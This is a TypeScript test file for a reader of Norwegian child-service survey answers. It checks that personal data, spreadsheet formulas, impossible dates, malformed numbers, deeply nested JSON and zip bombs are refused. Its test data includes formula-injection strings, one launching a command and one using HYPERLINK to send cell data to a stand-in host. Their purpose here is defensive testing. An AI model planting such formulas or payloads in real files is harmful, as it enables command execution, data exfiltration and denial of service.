import { createRegion, type PopulationRow } from "@barneloftet/analytics";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { faultSentence, readOfferAnswers, readRegionPack, regionsNamed } from "../src/index.js";
import { bytesOf, inventedPack } from "./invented-pack.js";
import { zip } from "./zip.js";

const reading = readRegionPack(bytesOf(inventedPack()));
if (!reading.ok) throw new Error("the invented pack does not read");
const region = createRegion(reading.pack, reading.figures.population as unknown as readonly PopulationRow[]);

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const held = {
  ...{ offer: "veiledning", availability: "exists", capacity: "none", counsellors: "not_stated" },
  without_casework: "not_stated",
};
const own = { name: "Fjelltur", kind: "measure", availability: "exists", capacity: "none" };
const good = {
  ...{ format: "barneloftet-answers-1", region: "eventyrlandet", service: "fjelldal", period: "2021H1" },
  ...{ answered_on: "2021-03-01", answers: [held], own_offers: [own] },
};
const readText = (text: string) => readOfferAnswers("svar.json", encode(text), { region, today: "2021-04-01" });
const read = (content: unknown) => readText(JSON.stringify(content));
const said = async (content: unknown): Promise<readonly string[]> => (await read(content)).faults.map(faultSentence);

describe("personal data in an own offer's name is refused, named by its place and never repeated", () => {
  test.each([
    ["Gutt 01019012345", "Teksten har elleve sifre og kan inneholde et fødselsnummer. Ta sifrene ut"],
    ["Gutt 010190 12345", "Teksten har elleve sifre og kan inneholde et fødselsnummer. Ta sifrene ut"],
    [["Kari tlf 912", "34", "567"].join(" "), "Teksten inneholder et telefonnummer. Ta det ut"],
    [
      ["Samtaler ved ola", "post.example"].join("@"),
      "Teksten inneholder @ eller (at) og kan være en adresse. Ta den ut",
    ],
  ])("as in %s", async (name, sentence) => {
    const { answers, faults } = await read({ ...good, own_offers: [own, { ...own, name }] });
    expect(answers[0]?.own_offers.map((of) => of.name)).toEqual(["Fjelltur"]);
    const sentences = faults.map(faultSentence);
    expect(sentences).toEqual([
      `svar.json, rad 2, kolonne own_offers[1].name: ${sentence}: her skal det ikke stå noe om en person.`,
    ]);
    expect(JSON.stringify(faults)).not.toContain(name);
  });
});

describe("a name that a spreadsheet would run is refused", () => {
  test.each(["-1+cmd|' /C calc'!A0", '+1+HYPERLINK("http://ond.example/"&A1)', "+1-1", "-A1", "@SUM(A1)", "=1"])(
    "and named as a formula, as %s",
    async (name) => {
      const { answers, faults } = await read({ ...good, own_offers: [{ ...own, name }] });
      expect([answers[0]?.own_offers, faults.map(({ code }) => code)]).toEqual([[], ["formula"]]);
    },
  );
});

describe("days and half-years that cannot be", () => {
  test.each([
    [
      { answered_on: "2021-04-02" },
      "Svardatoen «2021-04-02» er etter i dag (2021-04-01). Skriv dagen svarene ble gitt.",
    ],
    [{ answered_on: "2099-12-31" }, "Svardatoen «2099-12-31» er etter i dag"],
    [{ period: "2022H1" }, "Halvåret «2022H1» er for langt fram: det siste det kan svares for nå, er 2021H2."],
    [{ period: "2099H2" }, "Halvåret «2099H2» er for langt fram"],
    [{ answered_on: "1900-01-01" }, "Svardatoen «1900-01-01» er for langt fra halvåret 2021H1"],
    [{ answered_on: "2020-06-30" }, "Svardatoen «2020-06-30» er for langt fra halvåret 2021H1"],
    [{ period: "2019H2" }, "Svardatoen «2021-03-01» er for langt fra halvåret 2019H2"],
  ])(
    "as %j are refused with the answers they stand with, and the sentence says what to do",
    async (given, sentence) => {
      const { answers, faults } = await read({ ...good, ...given });
      expect([answers, faults.map(faultSentence)]).toEqual([[], [expect.stringContaining(sentence)]]);
    },
  );

  test.each([{ answered_on: "2021-04-01" }, { answered_on: "2020-07-01" }, { period: "2021H2" }, { period: "2020H1" }])(
    "are not those as %j: today, the half-year before, the next half-year, a year late",
    async (given) => {
      expect(await said({ ...good, ...given })).toEqual([]);
    },
  );
});

describe("a number of assignments is written with digits only", () => {
  test.each(["0x10", "1e2", "+2", "2.0", "١٢"])("so %s is refused", async (assignments) => {
    expect(await said({ ...good, answers: [{ ...held, capacity: "number", assignments }] })).toEqual([
      expect.stringContaining(`«${assignments}» er ikke et helt tall`),
    ]);
  });

  test("so 16 is taken, as a text too", async () => {
    const { answers } = await read({ ...good, answers: [{ ...held, capacity: "number", assignments: "16" }] });
    expect(answers[0]?.answers[0]?.assignments).toBe(16);
  });
});

describe("JSON that is made to make a reader fall", () => {
  const trap = { toString: "x", valueOf: "x", toJSON: "x" };
  test.each([
    { service: trap },
    { region: trap },
    { period: trap },
    { mailbox: trap },
    { answers: [{ ...held, offer: trap }, trap] },
    { own_offers: [{ ...own, name: trap, assignments: trap }] },
  ])("is told as faults where a text is %j", async (given) => {
    const { faults } = await read({ ...good, ...given });
    expect(faults.length).toBeGreaterThan(0);
    for (const one of faults) expect(faultSentence(one).length).toBeGreaterThan(10);
  });

  const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
  test.each([
    ["service", JSON.stringify({ ...good, service: "DEEP" })],
    ["region", JSON.stringify({ ...good, region: "DEEP" })],
    ["a row", JSON.stringify({ ...good, answers: ["DEEP"] })],
    ["an offer", JSON.stringify({ ...good, answers: [{ ...held, offer: "DEEP" }] })],
  ])("is refused as no answers with 200 000 lists within each other as %s", async (_, text) => {
    const { faults, refused } = await readText(text.replace('"DEEP"', deep));
    expect([refused, faults.map(({ code }) => code)]).toEqual([true, ["not_answers"]]);
    expect(await regionsNamed("svar.json", encode(text.replace('"DEEP"', deep)))).toEqual([]);
  });

  test("never throws, whatever stands for whatever", async () => {
    const anything = fc.oneof(fc.jsonValue(), fc.constant(trap));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...Object.keys(good), "mailbox"), anything, async (key, value) => {
        const { answers, faults, refused } = await read({ ...good, [key]: value });
        expect(refused).toBe(answers.length === 0);
        for (const one of faults) expect(faultSentence(one).length).toBeGreaterThan(10);
      }),
      { numRuns: 300 },
    );
  });
});

describe("a workbook that is made to take a machine's memory or time is refused before it is laid out", () => {
  const codeOf = async (bytes: Uint8Array) => {
    const { faults } = await readOfferAnswers("bombe.xlsx", bytes, { region, today: "2021-04-01" });
    return faults.map(({ code }) => code);
  };
  const blanks = new Uint8Array(19_900_000);

  test("with 100 entries that are all one stream of 19,9 MB, each declared as nothing", async () => {
    const before = performance.now();
    expect(await codeOf(zip([["a", blanks]], { entries: 100, declared: 0 }))).toEqual(["not_answers"]);
    expect(performance.now() - before).toBeLessThan(3000);
  });

  test("with two entries that are more than they declare: 39,8 MB as nothing", async () => {
    const parts = [
      ["a", blanks],
      ["b", blanks],
    ] as const;
    expect(await codeOf(zip(parts, { declared: 0 }))).toEqual(["file_too_large"]);
  });

  test("with 300 entries, however small", async () => {
    const parts = Array.from({ length: 300 }, (_, i) => [`a${i}`, encode("x")] as const);
    expect(await codeOf(zip(parts, {}))).toEqual(["file_too_large"]);
  });
});
